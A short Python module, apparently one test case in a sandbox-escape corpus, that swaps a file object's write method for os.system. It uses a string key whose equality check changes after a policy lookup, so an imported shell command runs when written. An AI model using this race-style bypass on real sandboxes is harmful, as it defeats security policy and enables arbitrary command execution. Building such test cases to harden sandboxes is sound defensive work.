"""What the application's text file writes into has a write() of its own only
when it is called."""
CATEGORY = "races"
REACH = "run"

import _imp
import io
import os

from . import payload


class Liar(str):
    """The same as another key, but for the look-up that judges."""

    asked = 0
    __hash__ = str.__hash__

    def __eq__(self, other):
        self.asked += 1
        return self.asked > _imp.has_policy()


class Buffer(io.BytesIO):

    def __init__(self):
        vars(self)[Liar("write")] = os.system


def attack(file):
    file.write(payload.COMMAND + "\n")
